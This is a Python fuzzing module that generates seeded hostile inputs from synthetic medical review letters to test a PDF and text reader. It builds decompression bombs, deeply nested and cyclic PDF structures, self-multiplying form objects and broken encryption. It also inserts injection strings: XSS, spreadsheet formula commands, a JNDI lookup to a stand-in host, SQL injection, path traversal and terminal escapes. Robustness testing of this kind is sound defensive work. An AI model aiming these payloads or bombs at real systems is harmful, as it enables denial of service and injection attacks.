"""Hostile inputs, made of invented letters by chance that a seed fixes.

``mutants(count, seed)`` gives files that no honest sender would send: damaged ones, ones that are
built to take a reader's time or memory, and ones whose text is meant for a terminal or a browser
instead of a reader. All kinds take turns, so that each has its fair share of any number.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from random import Random
from typing import NamedTuple

import pikepdf

from letter_factory import make_letter

# Template, edition, pages and seed of the base letters. Not every seed has a letter of each size;
# these do at the first attempt.
_BASES = (
    ("determination", "2014-2015", 2, 0),
    ("determination", "2016-2017", 1, 0),
    ("determination", "2018-2024", 3, 0),
    ("notice-2013", None, 2, 0),
    ("notice-2013", None, 3, 0),
    ("professional-review", None, 1, 0),
    ("professional-review", None, 2, 0),
    ("sectioned-2014", None, 2, 0),
    ("sectioned-2014", None, 3, 0),
)
_OBJECT = re.compile(rb"^(\d+) 0 obj\n(.*?)\nendobj$", re.DOTALL | re.MULTILINE)
_STREAM = re.compile(rb"<<.*?>>\nstream\n(.*)\nendstream", re.DOTALL)
_SHOWN = re.compile(rb"\(((?:[^()\\]|\\.)*)\) Tj")
_HEADINGS = (
    "IMR ISSUES, DECISIONS AND RATIONALES",
    "CLINICAL CASE SUMMARY",
    "Decision rationale:",
    "HOW THE IMR FINAL DETERMINATION WAS MADE",
    "1. Physical therapy 2x6: Upheld",
    "Claims Administrator guideline:",
)
_HOSTILE = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x07\x08\x7f\x9b31m",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[bold red]markup[/] [/unopened] [link=http://example.invalid]x[/link]",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "\u202egnp.exe\u202c",
    "${jndi:ldap://example.invalid/a} {{7*7}} %s%n",
    "'; DROP TABLE letters; --",
    "../../../etc/passwd",
    "\ufeff\u200b\u2028\u2029",
)
_RUNS = (
    " ", "\t ", "\u200b", "\u00a0\n", "(", ")", "[", "1-", "1, ", "1.", "a.", ".", "-\n", "/\n",
    "C5-C6 ", "and ", "pages 1-99999, ", "1/1/11 ", ": Upheld\n", "(1) ", "M54.5 ", "ODG, ", "X",
    "\u0130", "\U0001f4a9", "e\u0301", "Therefore. ", "years old ", "no ", "MTUS: ", "IMR ", "\f",
)  # fmt: skip
_NUMBERS = (
    "0", "-1", "00", "32768", "2147483648", "9" * 19, "9" * 400, "9" * 5000, "1e308", "1e999", "0.0", "1/0",
    "1-2147483647", "99/99/9999", "2/30/2015", "0/0/0", "\u0661\u0662", "\u00b2", "\u2167", "\U0001d7d9",
)  # fmt: skip


class Mutant(NamedTuple):
    """A hostile input.

    Attributes:
        name: the file's name, unlike that of any other mutant of the same call.
        data: the file's bytes.
        kind: what was done, a key of ``KINDS``.
    """

    name: str
    data: bytes
    kind: str


class _Base(NamedTuple):
    """A letter as sent, the same PDF without encryption or compression, and its text."""

    pdf: bytes
    plain: bytes
    text: str


_Objects = dict[int, bytes]
_Made = tuple[str, bytes]


def mutants(count: int, seed: int) -> Iterator[Mutant]:
    """Make hostile inputs; the same arguments give the same bytes.

    Args:
        count: how many.
        seed: fixes all chance.

    Yields:
        The inputs, of each kind in turn.
    """
    kinds = list(KINDS)
    for number in range(count):
        kind = kinds[number % len(kinds)]
        suffix, data = KINDS[kind](Random(f"{seed}/{number}"))
        yield Mutant(f"{number:05}-{kind}.{suffix}", data, kind)


@cache
def _bases() -> tuple[_Base, ...]:
    return tuple(_base(*given) for given in _BASES)


def _base(template: str, edition: str | None, pages: int, seed: int) -> _Base:
    made = make_letter(seed, edition, template, pages=pages)
    plain = io.BytesIO()
    with pikepdf.open(io.BytesIO(made.pdf)) as pdf:
        pdf.save(
            plain,
            static_id=True,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return _Base(made.pdf, plain.getvalue(), made.text)


def _objects(dice: Random) -> _Objects:
    """The objects of a letter's PDF by number."""
    plain = dice.choice(_bases()).plain
    return {int(found[1]): found[2] for found in _OBJECT.finditer(plain)}


def _write(objects: _Objects, trailer: bytes = b"", *, xref: bool = True) -> bytes:
    """A PDF of the objects; the catalog is number 1, as in all base letters."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            free = number not in places
            out += b"%010d %05d %b \n" % (
                places.get(number, 0),
                65535 if free else 0,
                b"f" if free else b"n",
            )
        out += b"trailer << /Root 1 0 R /Size %d %b >>\n" % (size, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


def _numbers(objects: _Objects, mark: bytes) -> list[int]:
    """The numbers of the objects that hold a mark."""
    return [number for number, body in objects.items() if mark in body]


def _pages(objects: _Objects) -> list[int]:
    return _numbers(objects, b"/Type /Page ")


def _tree(objects: _Objects) -> int:
    return _numbers(objects, b"/Type /Pages ")[0]


def _contents(objects: _Objects) -> list[int]:
    return _numbers(objects, b"\nstream\n")


def _add(objects: _Objects, body: bytes) -> int:
    number = max(objects) + 1
    objects[number] = body
    return number


def _put(objects: _Objects, number: int, entries: bytes) -> None:
    """Add entries to a dictionary, in place of those that it has of the same name."""
    body = objects[number]
    for name in re.findall(rb"^(/\w+)|(?<= )(/\w+)(?= [\d\[<(])", entries):
        key = name[0] or name[1]
        body = re.sub(key + rb" (?:\d+ 0 R|\[[^\]]*\]|\d+)", b"", body, count=1)
    objects[number] = body.replace(b"<<", b"<< " + entries, 1)


def _content_of(objects: _Objects, number: int) -> bytes:
    found = _STREAM.fullmatch(objects[number])
    assert found is not None
    return found[1]


def _any_file(dice: Random) -> tuple[str, bytearray]:
    """A letter in any of its three forms."""
    base = dice.choice(_bases())
    suffix, data = dice.choice(
        [("pdf", base.pdf), ("pdf", base.plain), ("pdf", base.plain), ("txt", base.text.encode())]
    )
    return suffix, bytearray(data)


def _range(dice: Random, size: int, most: int = 4000) -> tuple[int, int]:
    start = dice.randrange(size)
    return start, min(size, start + dice.randint(1, most))


def _bit_flips(dice: Random) -> _Made:
    suffix, data = _any_file(dice)
    for _ in range(dice.randint(1, 200)):
        data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
    return suffix, bytes(data)


def _truncation(dice: Random) -> _Made:
    suffix, data = _any_file(dice)
    cut = data[: dice.randrange(len(data))]
    return suffix, bytes(cut + dice.choice([b"", b"\n%%EOF\n"]) * (suffix == "pdf"))


def _deleted_object(dice: Random) -> _Made:
    objects = _objects(dice)
    for _ in range(dice.choice([1, 1, 1, 2, 3])):
        gone = dice.choice(sorted(objects))
        objects[gone] = dice.choice([b"null", b"", b"<< >>", b"[ ]", b"%d 0 R" % gone])
    if dice.random() < 0.5:
        del objects[dice.choice(sorted(objects))]
    return "pdf", _write(objects)


def _swapped_ranges(dice: Random) -> _Made:
    suffix, data = _any_file(dice)
    a, b, c, d = sorted(dice.randrange(len(data)) for _ in range(4))
    return suffix, bytes(data[:a] + data[c:d] + data[b:c] + data[a:b] + data[d:])


def _duplicated_range(dice: Random) -> _Made:
    suffix, data = _any_file(dice)
    start, end = _range(dice, len(data))
    return suffix, bytes(data[:end] + data[start:end] * dice.choice([1, 2, 50]) + data[end:])


def _zeroed_range(dice: Random) -> _Made:
    suffix, data = _any_file(dice)
    start, end = _range(dice, len(data))
    data[start:end] = bytes(end - start)
    return suffix, bytes(data)


@cache
def _bomb(unit: bytes, size: int, layers: int) -> bytes:
    """Bytes that inflate to `size` bytes of the repeated unit."""
    block = unit * (2**20 // len(unit))
    data = iter([block] * (size // len(block)))
    for _ in range(layers):
        packer = zlib.compressobj(9)
        data = iter([b"".join(map(packer.compress, data)) + packer.flush()])
    return b"".join(data)


def _flate_bomb(dice: Random) -> _Made:
    objects = _objects(dice)
    unit, size = dice.choice(
        [
            (b" ", 300 * 2**20),
            (b"\0", 400 * 2**20),
            (b"%", 300 * 2**20),
            (b"q ", 200 * 2**20),
            (b"( ) Tj ", 20 * 2**20),
            (b"[", 200 * 2**20),
            (b"(", 200 * 2**20),
        ]
    )
    layers = dice.choice([1, 2])
    filters = b"/Filter [ %b]" % (b"/FlateDecode " * layers)
    bomb = _bomb(unit, size, layers)
    where = dice.choice(["contents", "contents", "map", "objects"])
    if where == "contents":
        objects[dice.choice(_contents(objects))] = _stream(bomb, filters)
    elif where == "map":
        number = _add(objects, _stream(bomb, filters))
        for font in _numbers(objects, b"/BaseFont"):
            _put(objects, font, b"/ToUnicode %d 0 R " % number)
    else:
        entries = b"/Type /ObjStm /N 100000 /First 100 " + filters
        number = _add(objects, _stream(bomb, entries))
        _put(objects, dice.choice(_pages(objects)), b"/Contents %d 0 R " % number)
    return "pdf", _write(objects)


def _deep_nesting(dice: Random) -> _Made:
    objects = _objects(dice)
    depth = dice.choice([10_000, 10_000, 100_000])
    opens, closes = dice.choice([(b"[", b"]"), (b"<< /A ", b" >>"), (b"[<< /A ", b">>]")])
    nest = opens * depth + b" 0 " + closes * dice.choice([depth, 0])
    where = dice.choice(["resources", "trailer", "contents", "object", "kids"])
    if where == "trailer":
        return "pdf", _write(objects, b"/Info " + nest)
    if where == "resources":
        page = dice.choice(_pages(objects))
        objects[page] = objects[page].replace(b"/ProcSet", b"/Deep " + nest + b" /ProcSet", 1)
    elif where == "contents":
        number = dice.choice(_contents(objects))
        objects[number] = _stream(_content_of(objects, number) + b"\n" + nest + b" TJ\n")
    elif where == "object":
        _put(objects, dice.choice(_pages(objects)), b"/Annots %d 0 R " % _add(objects, nest))
    else:
        tree = _tree(objects)
        last = dice.choice(_pages(objects))
        for _ in range(depth // 20):
            last = _add(objects, b"<< /Type /Pages /Count 1 /Kids [ %d 0 R ] >>" % last)
        _put(objects, tree, b"/Count 1 /Kids [ %d 0 R ] " % last)
    return "pdf", _write(objects)


def _cyclic_pages(dice: Random) -> _Made:
    objects = _objects(dice)
    tree = _tree(objects)
    page = dice.choice(_pages(objects))
    count = dice.choice([1, 2, 3, 100, 2**31 - 1])
    way = dice.choice(["self", "below", "page", "parent", "contents"])
    if way == "self":
        _put(objects, tree, b"/Count %d /Kids [ %d 0 R %d 0 R ] " % (count, tree, page))
    elif way == "below":
        low = _add(objects, b"<< /Type /Pages /Count %d /Kids [ %d 0 R ] >>" % (count, tree))
        _put(objects, tree, b"/Count %d /Kids [ %d 0 R %d 0 R ] " % (count, page, low))
    elif way == "page":
        _put(objects, page, b"/Type /Pages /Count %d /Kids [ %d 0 R ] " % (count, page))
    elif way == "parent":
        objects[page] = re.sub(rb"/Resources << .*? >> |/MediaBox \[.*?\] ", b"", objects[page])
        _put(objects, page, b"/Parent %d 0 R " % page)
    else:
        number = dice.choice(_contents(objects))
        objects[number] = objects[number].replace(b"/Length ", b"/Length %d 0 R %%" % number, 1)
        loop = _add(objects, b"[ %d 0 R ]" % (max(objects) + 1))
        _put(objects, page, b"/Contents %d 0 R " % loop)
    return "pdf", _write(objects)


def _huge_count(dice: Random) -> _Made:
    objects = _objects(dice)
    count = dice.choice([-1, 0, 1, 10_000, 1_000_000, 2**31 - 1, 2**31, 2**63, 10**30])
    _put(objects, _tree(objects), b"/Count %d " % count)
    return "pdf", _write(objects)


def _shared_pages(dice: Random) -> _Made:
    objects = _objects(dice)
    page = dice.choice(_pages(objects))
    count = dice.choice([10_000, 100_000])
    if dice.random() < 0.5:
        _put(objects, page, b"/Contents %d 0 R " % _add(objects, _stream(b"")))
    kids = b"%d 0 R " % page * count
    _put(objects, _tree(objects), b"/Count %d /Kids [ %b] " % (count, kids))
    return "pdf", _write(objects)


def _shared_contents(dice: Random) -> _Made:
    """One content stream, printed many times over on the same page."""
    objects = _objects(dice)
    number = dice.choice(_contents(objects))
    many = b"%d 0 R " % number * dice.choice([50, 500, 5_000])
    _put(objects, dice.choice(_pages(objects)), b"/Contents [ %b] " % many)
    return "pdf", _write(objects)


def _laughing_forms(dice: Random) -> _Made:
    """Form XObjects each of which paints the next several times, or itself."""
    objects = _objects(dice)
    page = dice.choice(_pages(objects))
    fonts = re.findall(rb"/Font (\d+ 0 R)", objects[page])[0]
    form = b"/Type /XObject /Subtype /Form /BBox [ 0 0 612 792 ] /Resources << /Font %b %b >>"
    breadth, depth = dice.choice([(10, 4), (10, 8), (2, 24), (1, 1000), (1, 0)])
    inner = _add(objects, _stream(b"BT /F1 9 Tf (ha) Tj ET", form % (fonts, b"")))
    for _ in range(depth):
        below = b"/XObject << /X %d 0 R >>" % inner
        inner = _add(objects, _stream(b"/X Do " * breadth, form % (fonts, below)))
    if not depth:
        itself = b"/XObject << /X %d 0 R >>" % inner
        objects[inner] = _stream(b"BT /F1 9 Tf (ha) Tj ET /X Do /X Do", form % (fonts, itself))
    objects[page] = objects[page].replace(
        b"/ProcSet", b"/XObject << /X %d 0 R >> /ProcSet" % inner, 1
    )
    number = int(re.findall(rb"/Contents (\d+) 0 R", objects[page])[0])
    objects[number] = _stream(_content_of(objects, number) + b"\n/X Do\n")
    return "pdf", _write(objects)


def _odd_geometry(dice: Random) -> _Made:
    objects = _objects(dice)
    size = dice.choice(
        [b"0", b"-1", b"1e38", b"9" * 40, b"-3.5e38", b"1e-30", b"nan", b"2147483648"]
    )
    for page in _pages(objects):
        way = dice.choice(["box", "matrix", "font", "turn", "unit"])
        if way == "box":
            _put(objects, page, b"/MediaBox [ 0 0 %b %b ] " % (size, size))
        elif way == "turn":
            _put(objects, page, b"/Rotate %b " % dice.choice([b"45", b"90", b"-1", b"2147483649"]))
        elif way == "unit":
            _put(objects, page, b"/UserUnit %b " % size)
        else:
            old, new = (b"1 0 0 1 0 0 cm", b"%b 0 0 %b 0 0 cm" % (size, size))
            if way == "font":
                old, new = b" 12 Tf", b" %b Tf" % size
            for number in _contents(objects):
                objects[number] = _stream(_content_of(objects, number).replace(old, new))
    return "pdf", _write(objects)


def _wrong_length(dice: Random) -> _Made:
    objects = _objects(dice)
    number = dice.choice(_contents(objects))
    real = len(_content_of(objects, number))
    length = dice.choice(
        [
            b"0",
            b"-1",
            b"%d" % dice.randrange(real),
            b"%d" % (real + dice.randrange(1, 5000)),
            b"2147483647",
            b"99999999999999999999",
            b"%d 0 R" % number,
            b"9999 0 R",
            b"(x)",
            b"null",
        ]
    )
    objects[number] = re.sub(rb"/Length \d+", b"/Length " + length, objects[number], count=1)
    return "pdf", _write(objects)


def _no_xref(dice: Random) -> _Made:
    objects = _objects(dice)
    data = _write(objects)
    start = data.rindex(b"xref\n0 ")
    way = dice.choice(["none", "no trailer", "shifted", "loop", "far", "junk"])
    if way == "none":
        data = _write(objects, xref=False)
    elif way == "no trailer":
        data = data.replace(b"trailer << ", b"<< ", 1)
    elif way == "shifted":
        data = data.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + b"%" * dice.randint(1, 900) + b"\n")
    elif way == "loop":
        data = _write(objects, b"/Prev %d" % start)
    elif way == "far":
        end = data.rindex(b"startxref\n") + len(b"startxref\n")
        data = data[:end] + dice.choice([b"0", b"-5", b"9" * 30, b"x"]) + b"\n%%EOF\n"
    else:
        data = data[:start] + dice.randbytes(400) + b"\n%%EOF\n"
    return "pdf", data


def _no_fonts(dice: Random) -> _Made:
    objects = _objects(dice)
    way = dice.choice(["resource", "object", "subtype", "encoding", "widths"])
    if way == "resource":
        for page in _pages(objects):
            objects[page] = re.sub(rb"/Font \d+ 0 R", b"", objects[page])
        return "pdf", _write(objects)
    for font in _numbers(objects, b"/BaseFont"):
        if way == "object":
            objects[font] = dice.choice([b"null", b"<< /Type /Font >>", b"7"])
        elif way == "subtype":
            kind = dice.choice([b"/Type0", b"/Type3", b"/CIDFontType2", b"/TrueType", b"/None"])
            objects[font] = objects[font].replace(b"/Type1", kind)
        elif way == "encoding":
            odd = dice.choice(
                [b"/None", b"/Identity-H", b"<< /Differences [ 32 /a -5 /b 9e9 /c ] >>"]
            )
            objects[font] = objects[font].replace(b"/WinAnsiEncoding", odd)
        else:
            widths = b"/FirstChar -5 /LastChar 2147483647 /Widths [ 0 -1 1e38 ] "
            _put(objects, font, widths)
    return "pdf", _write(objects)


def _map(entries: bytes) -> bytes:
    return (
        b"/CIDInit /ProcSet findresource begin begincmap\n"
        b"1 begincodespacerange <00> <ff> endcodespacerange\n" + entries + b"\nendcmap end\n"
    )


def _junk_to_unicode(dice: Random) -> _Made:
    objects = _objects(dice)
    odd = dice.choice([0x1B, 0x07, 0x00, 0xD800, 0xDFFF, 0xFFFE, 0x202E, 0x0A, 0x0C, 0x2028])
    code = dice.choice(b"aeIMRtC: ")
    junk = dice.choice(
        [
            dice.randbytes(2000),
            _map(b"1 beginbfchar <%02x> <%04x> endbfchar" % (code, odd)),
            _map(b"1 beginbfrange <00> <ff> <%04x> endbfrange" % odd),
            _map(b"1 beginbfrange <00> <ffffffff> <0000> endbfrange"),
            _map(b"1 beginbfrange <00> <7fffffff> [ <41> ] endbfrange"),
            _map(b"1 beginbfchar <%02x> <%b> endbfchar" % (code, b"0041" * 20_000)),
            _map(b"100000 beginbfchar " + b"<41> <1F4A9> " * 50_000),
            b"begincmap " + b"[" * 50_000,
            b"",
        ]
    )
    number = _add(objects, _stream(junk))
    for font in _numbers(objects, b"/BaseFont"):
        _put(objects, font, b"/ToUnicode %d 0 R " % number)
    return "pdf", _write(objects)


def _wrong_encryption(dice: Random) -> _Made:
    if dice.random() < 0.5:
        data = dice.choice(_bases()).pdf
        old, new = dice.choice(
            [
                (rb"/V 4", b"/V %d" % dice.choice([0, 1, 2, 3, 5, 6, 99, -1])),
                (rb"/R 4", b"/R %d" % dice.choice([0, 2, 3, 5, 6, 99, -1])),
                (rb"/Length 128", b"/Length %d" % dice.choice([0, -8, 7, 40, 256, 2**31])),
                (rb"/O <", b"/O <00"),
                (rb"/U <", b"/U <ff"),
                (rb"/P -?\d+", b"/P 0"),
                (rb"/AESV2", dice.choice([b"/AESV3", b"/V2", b"/None", b"/Identity"])),
                (rb"/CFM", b"/CFX"),
                (rb"/ID \[.*?\]", b"/ID [ ]"),
                (rb"/Encrypt \d+", b"/Encrypt 9999"),
            ]
        )
        return "pdf", re.sub(old, new, data)
    entries = dice.choice(
        [
            b"<< >>",
            b"<< /Filter /Standard >>",
            b"<< /Filter /Other /V 1 >>",
            b"<< /Filter /Standard /V 4 /R 4 /O (x) /U (y) /P -1 /CF << >> /StmF /A /StrF /A >>",
            b"<< /Filter /Standard /V 5 /R 6 /O () /U () /OE () /UE () /Perms () /P -1 >>",
            b"<< /Filter /Standard /V 1 /R 2 /O ("
            + b"o" * 32
            + b") /U ("
            + b"u" * 32
            + b") /P 0 >>",
            b"7 0 R",
            b"(text)",
        ]
    )
    return "pdf", _write(_objects(dice), b"/ID [ (a) (b) ] /Encrypt " + entries)


def _hostile_text(dice: Random, text: str) -> str:
    """A text with strings that mean something to a terminal, a browser or a spreadsheet."""
    for _ in range(dice.randint(1, 40)):
        at = dice.choice([0, *(found.end() for found in re.finditer(r"[\n:,. ]", text))])
        text = text[:at] + dice.choice(_HOSTILE) + text[at:]
    return text


def _hostile_letter(dice: Random) -> _Made:
    return "txt", _hostile_text(dice, dice.choice(_bases()).text).encode()


def _hostile_pdf(dice: Random) -> _Made:
    """The same in what a PDF prints, in its properties and in its scripts."""
    objects = _objects(dice)
    for number in _contents(objects):
        shown = _content_of(objects, number)
        for _ in range(dice.randint(1, 20)):
            spots = list(_SHOWN.finditer(shown))
            if not spots:
                break
            spot = dice.choice(spots)
            odd = dice.choice(_HOSTILE).encode("latin-1", "replace")
            hexed = (spot[1] + odd).hex().encode()
            shown = shown[: spot.start()] + b"<" + hexed + b"> Tj" + shown[spot.end() :]
        objects[number] = _stream(shown)
    script = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\(\\047http://example.invalid\\047\\)) >> "
    _put(objects, 1, script)
    return "pdf", _write(objects, b"/Info << /Title (\x1b[2J\x07<script>) >>")


def _nul_text(dice: Random) -> _Made:
    data = bytearray(dice.choice(_bases()).text.encode())
    for _ in range(dice.choice([1, 3, 1000])):
        data.insert(dice.randrange(len(data)), 0)
    return "txt", bytes(data)


def _surrogates(dice: Random) -> _Made:
    """UTF-16 with halves of pairs, NUL, and now and then half a unit."""
    text = dice.choice(_bases()).text
    odd = ["\ud800", "\udfff", "\udc00\ud800", "\0", "\ufffe", "\U0010ffff", "\x1b[2J", "\x85"]
    for _ in range(dice.randint(1, 60)):
        at = dice.randrange(len(text))
        text = text[:at] + dice.choice(odd) + text[at:]
    order, mark = dice.choice([("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
    if dice.random() < 0.3:
        return "txt", text.encode("utf-8", "surrogatepass")
    return "txt", mark + text.encode(order, "surrogatepass") + dice.choice([b"", b"x"])


def _inserted(dice: Random, text: str, more: str) -> bytes:
    at = dice.choice([0, len(text), *(found.end() for found in re.finditer("\n", text))])
    return (text[:at] + more + text[at:]).encode()


def _long_line(dice: Random) -> _Made:
    text = dice.choice(_bases()).text
    word = dice.choice(["a", "word ", "Upheld ", "1", "(a) ", "x.y", "knee pain, "])
    if dice.random() < 0.3:
        return "txt", re.sub(
            r"\n+", " ", text * (dice.choice([900_000, 2**20]) // len(text))
        ).encode()
    return "txt", _inserted(dice, text, word * (dice.choice([900_000, 2**20]) // len(word)))


def _blank_lines(dice: Random) -> _Made:
    blank = dice.choice(["\n", " \n", "\r\n", "\f", "\t\n", "\u2028", "\v"])
    return "txt", _inserted(dice, dice.choice(_bases()).text, blank * 100_000)


def _repeated_heading(dice: Random) -> _Made:
    heading = dice.choice(_HEADINGS) + dice.choice(["\n", "\n\n", " "])
    return "txt", _inserted(
        dice, dice.choice(_bases()).text, heading * dice.choice([1_000, 10_000, 50_000])
    )


def _long_run(dice: Random) -> _Made:
    """Something that a pattern may begin to match again and again."""
    run = dice.choice(_RUNS) * dice.choice([5_000, 100_000])
    return "txt", _inserted(dice, dice.choice(_bases()).text, run)


def _huge_numbers(dice: Random) -> _Made:
    text = dice.choice(_bases()).text
    share = dice.choice([0.02, 0.2, 1.0])
    text = re.sub(r"\d+", lambda m: dice.choice(_NUMBERS) if dice.random() < share else m[0], text)
    return "txt", text.encode()


def _random_bytes(dice: Random) -> _Made:
    suffix = dice.choice(["pdf", "txt"])
    start = dice.choice(
        [b"", b"%PDF-1.7\n", b"\xff\xfe", b"\xef\xbb\xbf", b"%PDF-1.7\n1 0 obj\n<<"]
    )
    end = dice.choice([b"", b"\n%%EOF\n"])
    return suffix, start + dice.randbytes(dice.choice([0, 1, 100, 5_000, 100_000])) + end


KINDS: dict[str, Callable[[Random], _Made]] = {
    "bit_flips": _bit_flips,
    "truncation": _truncation,
    "deleted_object": _deleted_object,
    "swapped_ranges": _swapped_ranges,
    "duplicated_range": _duplicated_range,
    "zeroed_range": _zeroed_range,
    "flate_bomb": _flate_bomb,
    "deep_nesting": _deep_nesting,
    "cyclic_pages": _cyclic_pages,
    "huge_count": _huge_count,
    "shared_pages": _shared_pages,
    "shared_contents": _shared_contents,
    "laughing_forms": _laughing_forms,
    "odd_geometry": _odd_geometry,
    "wrong_length": _wrong_length,
    "no_xref": _no_xref,
    "no_fonts": _no_fonts,
    "junk_to_unicode": _junk_to_unicode,
    "wrong_encryption": _wrong_encryption,
    "hostile_pdf": _hostile_pdf,
    "hostile_letter": _hostile_letter,
    "nul_text": _nul_text,
    "surrogates": _surrogates,
    "long_line": _long_line,
    "blank_lines": _blank_lines,
    "repeated_heading": _repeated_heading,
    "long_run": _long_run,
    "huge_numbers": _huge_numbers,
    "random_bytes": _random_bytes,
}
"""What each kind does: chance -> suffix and bytes."""
